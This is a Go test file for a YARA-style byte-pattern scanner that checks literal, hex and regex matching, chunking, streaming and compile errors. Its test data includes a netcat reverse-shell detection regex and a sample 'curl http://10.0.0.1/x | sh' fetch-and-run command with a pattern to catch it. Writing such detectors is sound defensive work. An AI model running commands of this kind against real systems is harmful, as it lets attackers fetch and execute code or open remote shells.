package pattern

import (
	"bytes"
	"errors"
	"fmt"
	"regexp/syntax"
	"slices"
	"strings"
	"testing"
)

type hit struct {
	off int64
	n   int
}

func scanAll(t testing.TB, defs []Def, data []byte, opts ScanOptions) [][]hit {
	t.Helper()
	set, err := Compile(defs)
	if err != nil {
		t.Fatalf("Compile: %v", err)
	}
	if opts.MaxMatchesPerPattern == 0 {
		opts.MaxMatchesPerPattern = 1 << 20
	}
	m, err := set.Scan(bytes.NewReader(data), int64(len(data)), opts)
	if err != nil {
		t.Fatalf("Scan: %v", err)
	}
	out := make([][]hit, len(defs))
	for i, pm := range m.Patterns {
		if pm.ID != defs[i].ID {
			t.Fatalf("pattern %d: ID %q, want %q", i, pm.ID, defs[i].ID)
		}
		if int64(len(pm.Matches)) != pm.Count {
			t.Fatalf("pattern %s: %d matches kept, count %d", pm.ID, len(pm.Matches), pm.Count)
		}
		for _, mt := range pm.Matches {
			want := data[mt.Offset : mt.Offset+int64(min(mt.Length, MaxEvidence))]
			if !bytes.Equal(mt.Data, want) {
				t.Fatalf("pattern %s: evidence %x at %d, want %x", pm.ID, mt.Data, mt.Offset, want)
			}
			out[i] = append(out[i], hit{mt.Offset, mt.Length})
		}
	}
	return out
}

func TestMatches(t *testing.T) {
	data := []byte("xxMZ\x90\x00\x03\x00 hello HeLLo h\x00e\x00l\x00l\x00o\x00 \x01AB\x02\x02\x02 aaaa abcabc zzz\xe9\xff\xe9 end")
	tests := []struct {
		def  Def
		want []hit
	}{
		{Def{Kind: Literal, Text: "hello"}, []hit{{9, 5}}},
		{Def{Kind: Literal, Text: "hello", Nocase: true}, []hit{{9, 5}, {15, 5}}},
		{Def{Kind: Literal, Text: "hello", Wide: true}, []hit{{21, 10}}},
		{Def{Kind: Literal, Text: "hello", Wide: true, ASCII: true}, []hit{{9, 5}, {21, 10}}},
		{Def{Kind: Hex, Text: "4D 5A 90 00"}, []hit{{2, 4}}},
		{Def{Kind: Hex, Text: "4D5A??00 0? 00"}, []hit{{2, 6}}},
		{Def{Kind: Hex, Text: "4D 5A ( 91 | 90 ) ?0"}, []hit{{2, 4}}},
		{Def{Kind: Hex, Text: "01 41 [1-4] 02"}, []hit{{32, 4}}},  // jumps take the fewest bytes
		{Def{Kind: Hex, Text: "01 41 42 [-] 02"}, []hit{{32, 4}}}, // unbounded jump
		{Def{Kind: Hex, Text: "41 42 ( 03 | 02 [1] 02 )"}, []hit{{33, 5}}},
		{Def{Kind: Regex, Text: "ab(c|cabc)"}, []hit{{44, 3}, {47, 3}}}, // first alternative wins
		{Def{Kind: Regex, Text: "aa+"}, []hit{{39, 4}, {40, 3}, {41, 2}}},
		{Def{Kind: Regex, Text: "HEL+O", Nocase: true}, []hit{{9, 5}, {15, 5}}},
		{Def{Kind: Regex, Text: "hel+o", Wide: true}, []hit{{21, 10}}},
		{Def{Kind: Regex, Text: `zz.\xff.`}, []hit{{52, 5}}}, // '.' is one byte, \xff the byte 0xFF
		{Def{Kind: Regex, Text: `lo [^\x00]{2}`}, []hit{{12, 5}}},
	}
	for i, tc := range tests {
		tc.def.ID = fmt.Sprintf("p%d", i)
		got := scanAll(t, []Def{tc.def}, data, ScanOptions{})[0]
		if fmt.Sprint(got) != fmt.Sprint(tc.want) {
			t.Errorf("%s %q (nocase=%v wide=%v): got %v, want %v", tc.def.Kind, tc.def.Text, tc.def.Nocase, tc.def.Wide, got, tc.want)
		}
	}
}

func TestChunkBoundaries(t *testing.T) {
	// Matches straddle every chunk boundary; a tiny chunk size forces many of them.
	var data []byte
	for i := 0; i < 3000; i++ {
		data = append(data, "..needle.."[i%10:]...)
		data = append(data, byte(i), 0xAB, 0xCD, byte(i>>8), 0xEF)
	}
	defs := []Def{
		{ID: "lit", Kind: Literal, Text: "needle"},
		{ID: "hex", Kind: Hex, Text: "AB CD ?? EF"},
		{ID: "jump", Kind: Hex, Text: "AB CD [1-20] 6E 65"},
		{ID: "re", Kind: Regex, Text: `ee[a-z]+\.`},
	}
	ref := scanAll(t, defs, data, ScanOptions{ChunkSize: 1 << 30})
	for _, cs := range []int{1, 7, 4096, 10000} {
		got := scanAll(t, defs, data, ScanOptions{ChunkSize: cs})
		for i := range defs {
			if fmt.Sprint(got[i]) != fmt.Sprint(ref[i]) {
				t.Errorf("chunk %d, %s: %d matches, want %d", cs, defs[i].ID, len(got[i]), len(ref[i]))
			}
		}
	}
	if len(ref[0]) == 0 || len(ref[1]) != 3000 || len(ref[3]) == 0 {
		t.Errorf("reference counts: %d %d %d %d", len(ref[0]), len(ref[1]), len(ref[2]), len(ref[3]))
	}
}

func TestMaxMatches(t *testing.T) {
	data := bytes.Repeat([]byte("abcd"), 1000)
	set, err := Compile([]Def{{ID: "a", Kind: Literal, Text: "abcd"}, {ID: "b", Kind: Literal, Text: "cdab", Wide: true, ASCII: true}})
	if err != nil {
		t.Fatal(err)
	}
	m, err := set.Scan(bytes.NewReader(data), int64(len(data)), ScanOptions{MaxMatchesPerPattern: 7})
	if err != nil {
		t.Fatal(err)
	}
	a := m.Get("a")
	if a.Count != 1000 || len(a.Matches) != 7 || a.Matches[6].Offset != 24 {
		t.Errorf("a: count %d, kept %d, last %+v", a.Count, len(a.Matches), a.Matches[len(a.Matches)-1])
	}
	if b := m.Get("b"); b.Count != 999 || len(b.Matches) != 7 || b.Matches[0].Offset != 2 {
		t.Errorf("b: count %d, kept %d", b.Count, len(b.Matches))
	}
	if m.Get("zz") != nil {
		t.Error("Get of an unknown ID is not nil")
	}
}

func TestCompileErrors(t *testing.T) {
	tests := []struct {
		def  Def
		col  int
		frag string
	}{
		{Def{Kind: Hex, Text: "4D 5A XX"}, 7, "not a hex digit"},
		{Def{Kind: Hex, Text: "4D 5A [2-1] 00 00"}, 7, "lower bound above"},
		{Def{Kind: Hex, Text: "4D 5A [5000] 00 00"}, 7, "limited to 4096"},
		{Def{Kind: Hex, Text: "[2] 4D 5A"}, 1, "cannot start with a jump"},
		{Def{Kind: Hex, Text: "4D 5A [2]"}, 9, "cannot end with a jump"},
		{Def{Kind: Hex, Text: "4D 5A ( 00 | 01"}, 7, "missing ')'"},
		{Def{Kind: Hex, Text: "4D 5A ( 00 | [-] 01 ) 01"}, 14, "unbounded jumps are not allowed inside"},
		{Def{Kind: Hex, Text: "4D 5A 0"}, 7, "two hex digits"},
		{Def{Kind: Hex, Text: "4D 5A | 00"}, 7, "outside an alternative"},
		{Def{Kind: Hex, Text: "4D 5A [1 00"}, 10, "missing ']'"},
		{Def{Kind: Hex, Text: "4D 5A ~00"}, 7, "not supported"},
		{Def{Kind: Hex, Text: "?? ??"}, 0, "no run of 2 or more fixed bytes"},
		{Def{Kind: Hex, Text: "4D ?? 5A"}, 0, "no run of 2"},
		{Def{Kind: Hex, Text: "4D 5A", Nocase: true}, 0, "do not apply to hex"},
		{Def{Kind: Regex, Text: "."}, 0, "no literal of 2 or more bytes"},
		{Def{Kind: Regex, Text: "a.b.c"}, 0, "no literal"},
		{Def{Kind: Regex, Text: "ab(c"}, 1, "missing closing )"},
		{Def{Kind: Regex, Text: "^abc"}, 0, "anchor ^"},
		{Def{Kind: Regex, Text: `\babc`}, 0, "word boundary"},
		{Def{Kind: Regex, Text: `abc\p{Greek}`}, 4, "invalid escape"},
		{Def{Kind: Literal, Text: "a"}, 0, "shorter than 2 bytes"},
		{Def{Kind: Literal, Text: ""}, 0, "empty"},
		{Def{Kind: 9, Text: "abc"}, 0, "unknown pattern kind"},
	}
	for _, tc := range tests {
		tc.def.ID = "x"
		_, err := Compile([]Def{{ID: "ok", Kind: Literal, Text: "fine"}, tc.def})
		var ce *CompileError
		if !errors.As(err, &ce) {
			t.Errorf("%q: error %v is not a *CompileError", tc.def.Text, err)
			continue
		}
		if ce.Index != 1 || ce.ID != "x" || ce.Column != tc.col || !strings.Contains(ce.Msg, tc.frag) {
			t.Errorf("%q: got index %d column %d %q, want column %d containing %q", tc.def.Text, ce.Index, ce.Column, ce.Msg, tc.col, tc.frag)
		}
	}
}

func TestAtoms(t *testing.T) {
	tests := []struct {
		def        Def
		atoms      string
		dmin, dmax int
	}{
		{Def{Kind: Literal, Text: "\x00\x00abcd\x00"}, "[abcd]", 2, 2},
		{Def{Kind: Literal, Text: "ab", Nocase: true}, "[AB Ab aB ab]", 0, 0},
		{Def{Kind: Hex, Text: "00 00 ?? 4D 5A 90 ?? 11 22 33"}, "[\x11\"3]", 7, 7},
		{Def{Kind: Hex, Text: "11 22 [1-3] 41 42 43 44"}, "[ABCD]", 3, 5},
		{Def{Kind: Regex, Text: `[a-z]+(foo|barb)x`}, "[bar foo]", 1, RegexWindow},
		{Def{Kind: Regex, Text: `ab[cd]e`}, "[abce abde]", 0, 0},
	}
	for _, tc := range tests {
		cs, err := compileDef(0, tc.def)
		if err != nil {
			t.Errorf("%q: %v", tc.def.Text, err)
			continue
		}
		var got []string
		for _, a := range cs[0].atoms {
			got = append(got, string(a))
		}
		if s := fmt.Sprint(got); s != tc.atoms {
			t.Errorf("%q: atoms %q, want %q", tc.def.Text, s, tc.atoms)
		}
		if cs[0].sub.dmin != tc.dmin || cs[0].sub.dmax != tc.dmax {
			t.Errorf("%q: atom offset %d..%d, want %d..%d", tc.def.Text, cs[0].sub.dmin, cs[0].sub.dmax, tc.dmin, tc.dmax)
		}
	}
}

type errReaderAt struct{ n int64 }

func (e errReaderAt) ReadAt(p []byte, off int64) (int, error) {
	if off+int64(len(p)) > e.n {
		return 0, errors.New("device error")
	}
	clear(p)
	return len(p), nil
}

func TestReadError(t *testing.T) {
	set, err := Compile([]Def{{ID: "a", Kind: Literal, Text: "abcd"}})
	if err != nil {
		t.Fatal(err)
	}
	m, err := set.Scan(errReaderAt{n: 1 << 20}, 3<<20, ScanOptions{})
	if err == nil || !strings.Contains(err.Error(), "device error") || m == nil || len(m.Patterns) != 0 { // what was read matched nothing
		t.Fatalf("got %v, %v", m, err)
	}
}

func TestWorkBound(t *testing.T) {
	data := bytes.Repeat([]byte("abc"), 200000)
	set, err := Compile([]Def{{ID: "r", Kind: Regex, Text: "abc(?s:.)*"}})
	if err != nil {
		t.Fatal(err)
	}
	m, err := set.Scan(bytes.NewReader(data), int64(len(data)), ScanOptions{WorkFactor: 1})
	if !errors.Is(err, ErrWorkBound) || !m.Incomplete || m.Patterns[0].Count == 0 || m.Patterns[0].Count >= 200000 {
		t.Fatalf("got err %v, incomplete %v, count %d", err, m.Incomplete, m.Patterns[0].Count)
	}
}

func TestStream(t *testing.T) {
	var data []byte
	for i := 0; i < 5000; i++ {
		data = append(data, "..needle.."[i%10:]...)
		data = append(data, byte(i), 0xAB, 0xCD, byte(i>>8), 0xEF)
	}
	defs := []Def{
		{ID: "lit", Kind: Literal, Text: "needle", Wide: true, ASCII: true},
		{ID: "hex", Kind: Hex, Text: "AB CD ?? EF"},
		{ID: "jump", Kind: Hex, Text: "AB CD [1-20] 6E 65"},
		{ID: "re", Kind: Regex, Text: `ee[a-z]+\.`},
	}
	set, err := Compile(defs)
	if err != nil {
		t.Fatal(err)
	}
	opts := ScanOptions{MaxMatchesPerPattern: 1 << 20, ChunkSize: 4096}
	want, err := set.Scan(bytes.NewReader(data), int64(len(data)), opts)
	if err != nil {
		t.Fatal(err)
	}
	for _, piece := range []int{1, 3, 1000, 4096, 100000} {
		w := set.NewStream(opts, int64(len(data)))
		for d := data; len(d) > 0; {
			k := min(piece, len(d))
			if n, err := w.Write(d[:k]); n != k || err != nil {
				t.Fatalf("Write: %d, %v", n, err)
			}
			d = d[k:]
		}
		got, err := w.Close()
		if err != nil {
			t.Fatal(err)
		}
		for i := range defs {
			if g, w := got.Patterns[i], want.Patterns[i]; g.Count != w.Count || fmt.Sprint(g.Matches) != fmt.Sprint(w.Matches) {
				t.Errorf("pieces of %d, %s: count %d, want %d", piece, defs[i].ID, g.Count, w.Count)
			}
		}
	}
	if want.Patterns[1].Count != 5000 || want.Patterns[0].Count == 0 || want.Patterns[2].Count == 0 || want.Patterns[3].Count == 0 {
		t.Errorf("reference counts %d %d %d %d", want.Patterns[0].Count, want.Patterns[1].Count, want.Patterns[2].Count, want.Patterns[3].Count)
	}
}

// TestPrefixBytes: the bytes that can stand at each of the first positions of a match,
// over every path of the regex, up to where a match can already have ended.
func TestPrefixBytes(t *testing.T) {
	for _, tc := range []struct {
		re   string
		want []string // each position's bytes, in order
	}{
		{`[;|](nc|ncat|netcat)\s-e`, []string{";|", "n", "ce", "\t\n\f\r at", "-ct", "\t\n\f\r ae"}}, // "nc -e" ends a match after six bytes
		{`ab|abcd`, []string{"a", "b"}},
		{`a*bc`, []string{"ab", "abc"}}, // "bc" ends a match after two bytes
		{`(?i)xy[0-9]`, []string{"Xx", "Yy", "0123456789"}},
		{`\xe9t\xe9`, []string{"\xe9", "t", "\xe9"}},
	} {
		tree, err := syntax.Parse(latin1(tc.re), regexFlags)
		if err != nil {
			t.Fatal(err)
		}
		prog, err := syntax.Compile(tree.Simplify())
		if err != nil {
			t.Fatal(err)
		}
		var got []string
		for _, set := range prefixBytes(prog, prefixLen) {
			var b []byte
			for c := range 256 {
				if set[c] {
					b = append(b, byte(c))
				}
			}
			got = append(got, string(b))
		}
		if !slices.Equal(got, tc.want) {
			t.Errorf("%s: %q, want %q", tc.re, got, tc.want)
		}
	}
}

// TestRegexHighBytes checks the two ways a regex window with bytes above 0x7F is
// matched: cut before the first such byte for a regex that cannot match one, and
// transcoded for one that can.
func TestRegexHighBytes(t *testing.T) {
	data := []byte("key=ab\x80cd! key=abcd! key=\xe9\xe8! key=!")
	tests := []struct {
		def  Def
		want []hit
	}{
		{Def{Kind: Regex, Text: `key=[a-z]+!`}, []hit{{11, 9}}},
		{Def{Kind: Regex, Text: `key=[^!]+!`}, []hit{{0, 10}, {11, 9}, {21, 7}}},
		{Def{Kind: Regex, Text: `key=[a-z\x80-\xff]+!`}, []hit{{0, 10}, {11, 9}, {21, 7}}},
		{Def{Kind: Regex, Text: `key=.{2}!`}, []hit{{21, 7}}}, // '.' is one byte, not one UTF-8 character
		{Def{Kind: Regex, Text: `KEY=[A-Z]+!`, Nocase: true}, []hit{{11, 9}}},
	}
	for i, tc := range tests {
		tc.def.ID = fmt.Sprintf("p%d", i)
		got := scanAll(t, []Def{tc.def}, data, ScanOptions{})[0]
		if fmt.Sprint(got) != fmt.Sprint(tc.want) {
			t.Errorf("%q (nocase=%v): got %v, want %v", tc.def.Text, tc.def.Nocase, got, tc.want)
		}
	}
	set, err := Compile([]Def{{ID: "a", Kind: Regex, Text: `key=[a-z]+!`}, {ID: "b", Kind: Regex, Text: `key=[^!]+!`}})
	if err != nil {
		t.Fatal(err)
	}
	if !set.subs[0].ascii || set.subs[1].ascii {
		t.Errorf("ascii: %v, %v; want true, false", set.subs[0].ascii, set.subs[1].ascii)
	}
}

// TestScannerReuse scans different files one after another and at once with one set:
// a scan reuses an earlier scan's state and buffers, and must not see its matches.
func TestScannerReuse(t *testing.T) {
	defs := []Def{
		{ID: "lit", Kind: Literal, Text: "needle"},
		{ID: "hex", Kind: Hex, Text: "AB CD [1-4] EF"},
		{ID: "re", Kind: Regex, Text: `pass(word)?=[^ ]+`, Wide: true, ASCII: true},
	}
	set, err := Compile(defs)
	if err != nil {
		t.Fatal(err)
	}
	files := [][]byte{
		[]byte("a needle, \xab\xcd\x01\xef and password=x\xffy p\x00a\x00s\x00s\x00=\x00z\x00"),
		[]byte("nothing here"),
		bytes.Repeat([]byte("needle pass=1 "), 5000),
		{},
		[]byte("pass=\x80"),
	}
	scan := func(data []byte) string {
		m, err := set.Scan(bytes.NewReader(data), int64(len(data)), ScanOptions{ChunkSize: 4096})
		if err != nil {
			t.Error(err)
		}
		return fmt.Sprintf("%+v", m.Patterns)
	}
	want := make([]string, len(files))
	for i, f := range files {
		fresh, _ := Compile(defs)
		m, err := fresh.Scan(bytes.NewReader(f), int64(len(f)), ScanOptions{ChunkSize: 4096})
		if err != nil {
			t.Fatal(err)
		}
		want[i] = fmt.Sprintf("%+v", m.Patterns)
	}
	if want[1] != "[]" || want[0] == "[]" {
		t.Fatalf("reference results: %q, %q", want[0], want[1])
	}
	for round := range 3 {
		for i, f := range files {
			if got := scan(f); got != want[i] {
				t.Errorf("round %d, file %d: %s, want %s", round, i, got, want[i])
			}
		}
	}
	done := make(chan struct{})
	for g := range 4 {
		go func() {
			defer func() { done <- struct{}{} }()
			for k := range 50 {
				i := (g + k) % len(files)
				if got := scan(files[i]); got != want[i] {
					t.Errorf("concurrent scan of file %d: %s, want %s", i, got, want[i])
					return
				}
			}
		}()
	}
	for range 4 {
		<-done
	}
}

// Rules often share a pattern: identical definitions (but for the ID) are compiled and
// matched once and reported for each, in the order given, as if matched separately.
func TestSamePatternMatchedOnce(t *testing.T) {
	data := []byte("curl http://10.0.0.1/x | sh; wget http://example.org/ ; echo hello HELLO")
	defs := []Def{
		{ID: "a", Kind: Regex, Text: `(curl|wget)\s+http://[0-9.]+/`},
		{ID: "b", Kind: Literal, Text: "hello", Nocase: true},
		{ID: "c", Kind: Regex, Text: `(curl|wget)\s+http://[0-9.]+/`},
		{ID: "d", Kind: Literal, Text: "hello"},
		{ID: "e", Kind: Literal, Text: "hello", Nocase: true},
		{ID: "f", Kind: Literal, Text: "absent"},
		{ID: "g", Kind: Literal, Text: "absent"},
	}
	set, err := Compile(defs)
	if err != nil {
		t.Fatal(err)
	}
	if len(set.subs) != 4 {
		t.Errorf("%d subs compiled for 4 distinct patterns", len(set.subs))
	}
	together := scanAll(t, defs, data, ScanOptions{})
	for i, d := range defs {
		alone := scanAll(t, []Def{d}, data, ScanOptions{})[0]
		if fmt.Sprint(together[i]) != fmt.Sprint(alone) {
			t.Errorf("%s: %v together, %v alone", d.ID, together[i], alone)
		}
	}
	if fmt.Sprint(together[:5]) != "[[{0 21}] [{61 5} {67 5}] [{0 21}] [{61 5}] [{61 5} {67 5}]]" {
		t.Errorf("matches %v", together)
	}
}
